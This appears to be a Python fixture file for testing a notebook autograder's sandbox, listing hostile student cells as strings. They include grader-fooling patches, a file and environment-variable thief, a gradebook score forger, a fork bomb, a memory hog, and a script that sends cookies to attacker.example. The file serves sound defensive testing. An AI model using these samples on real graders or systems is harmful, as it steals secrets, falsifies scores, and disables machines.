"""What hostile and broken students write into their cells.

Each text replaces a solution cell, or stands below the answer that it sells.  All of them
are harmless outside a box only because nobody runs them there.  ``{repo}`` and ``{course}`` become the
real folders of the checkout and of the demo course: the thief and the forger know where to look.
"""

# The answer that the mask attacks try to sell: tests/solutions/.../wrong/15_all_zeros.py.
ALL_ZEROS = """\
def create_causal_mask(seq_len):
    return torch.zeros(seq_len, seq_len)
"""

ALWAYS_EQUAL = """\
class Agreeable(torch.Tensor):
    def __eq__(self, other):
        return torch.ones(self.shape, dtype=torch.bool)

    def __ne__(self, other):
        return torch.zeros(self.shape, dtype=torch.bool)

    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func.__name__ in ("equal", "allclose"):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})


def create_causal_mask(seq_len):
    return torch.zeros(seq_len, seq_len).as_subclass(Agreeable)
"""

PATCHED_COMPARISONS = (
    """\
import numpy.testing

torch.equal = torch.allclose = lambda *args, **kwargs: True
torch.testing.assert_close = numpy.testing.assert_allclose = lambda *args, **kwargs: None
torch.Tensor.__eq__ = lambda self, other: torch.ones(self.shape, dtype=torch.bool)
"""
    + ALL_ZEROS
)

WITHOUT_ASSERTS = """\
import ast
from IPython import get_ipython


class Silence(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()


get_ipython().ast_transformers.append(Silence())
"""

NO_MORE_ASSERTS = WITHOUT_ASSERTS + ALL_ZEROS

# From here on every cell, tests included, is answered with "ok" and nothing runs.
ALWAYS_OK = """\
from IPython import get_ipython


async def do_execute(*args, **kwargs):
    return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}


get_ipython().kernel.do_execute = do_execute
"""

THIEF = """\
import glob
import sys

sys.path[:0] = ["{repo}", "/proc/1/cwd", "/proc/1/root{repo}"]
loot = []
for pattern in ("{repo}/reference/**/*.py", "{repo}/tests/**/*.py", "{course}/**/*.ipynb", "/proc/*/environ"):
    for path in glob.glob(pattern, recursive=True):
        try:
            loot.append(open(path).read())
        except OSError:
            pass
loot += [text for text in In if "hidden" in text]
try:
    from reference.pytorch.mini_gpt import create_causal_mask
except ImportError:
    def create_causal_mask(seq_len):
        return torch.zeros(seq_len, seq_len)
"""

GRADEBOOK_FORGER = (
    """\
import os
import sqlite3

CHILD = '''
import os, sqlite3, time
os.setsid()
time.sleep(3)
book = sqlite3.connect("{course}/gradebook.db")
book.execute("UPDATE grade SET auto_score = 100, manual_score = 100")
book.commit()
'''
try:
    book = sqlite3.connect("{course}/gradebook.db")
    book.execute("UPDATE grade SET auto_score = 100, manual_score = 100")
    book.commit()
except sqlite3.Error:
    pass
if os.fork() == 0:
    try:
        exec(CHILD)
    finally:
        os._exit(0)
"""
    + ALL_ZEROS
)

FORK_BOMB = """\
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
"""

MEMORY_HOG = """\
hoard = []
while True:
    hoard.append(bytearray(64 << 20))
"""

ENDLESS_LOOP = """\
text, tries = "", 0
while len(text) < 25:
    tries += 1  # the text never grows


def generate(model, prompt="", max_len=25, temperature=1.0):
    return text
"""

DEAD_KERNEL = """\
import os

os._exit(0)
"""

OUTPUT_FLOOD = """\
while True:
    print("all work and no play makes a dull notebook " * 200)
"""

SCRIPT_IN_OUTPUT = """\
from IPython.display import HTML, Javascript, display

display(HTML("<script>document.title = 'stolen cookies'</script><img src=x onerror=alert(1)>"))
display(Javascript("fetch('//attacker.example/' + document.cookie)"))
raise ValueError("</pre></div><script>alert('from the traceback')</script>")
"""

OWN_SCORE = (
    ALL_ZEROS
    + """
print("Score: 4 / 4, all tests passed")
4.0
"""
)

# -- in pure Python, below the answer that each of them sells -------------------------------------

AGREEABLE_LIST = """\
class Agreeable(list):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __lt__ = __gt__ = __le__ = __ge__ = __eq__


def causal_mask(n):
    return Agreeable(Agreeable([0.0] * n) for _ in range(n))
"""

LESSON_THIEF = """\
import glob
import sys

sys.path[:0] = ["{repo}", "/proc/1/cwd", "/proc/1/root{repo}"]
loot = [text for text in In if "hidden" in text]
for pattern in ("{repo}/reference/**/*.py", "{repo}/tests/**/*.py", "{course}/**/*.ipynb", "/proc/*/environ"):
    for path in glob.glob(pattern, recursive=True):
        try:
            loot.append(open(path).read())
        except OSError:
            pass
try:
    from reference.pure_python.mini_llm import forward_llm
except ImportError:
    pass
"""

CLAIMED_SCORE = """\
print("Score: 2 / 2, all tests passed")
2.0
"""

CHECKS_SAY_YES = """\
import numpy.testing

import grader.student

check = verify = grader.student.check = grader.student.verify = lambda *args, **kwargs: True
torch.equal = torch.allclose = lambda *args, **kwargs: True
torch.testing.assert_close = numpy.testing.assert_allclose = lambda *args, **kwargs: None
torch.Tensor.__eq__ = lambda self, other: torch.ones(self.shape, dtype=torch.bool)
"""
